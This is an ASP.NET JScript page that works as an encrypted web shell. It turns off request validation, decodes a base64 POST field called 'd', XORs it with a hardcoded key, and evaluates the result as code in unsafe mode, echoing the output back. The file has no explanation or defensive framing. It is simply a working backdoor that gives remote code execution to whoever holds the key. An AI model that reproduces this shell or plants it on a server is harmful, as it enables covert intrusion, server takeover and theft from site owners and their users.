<%@ Page Language="JScript" validateRequest="false" %>
<%
var key = [0x5A, 0x13, 0xC7, 0x2E];
var d = System.Convert.FromBase64String(Request.Form["d"]);
for (var i = 0; i < d.length; i++) {
  d[i] = d[i] ^ key[i % key.length];
}
var src = System.Text.Encoding.UTF8.GetString(d);
Response.Write(eval(src, "unsafe"));
%>
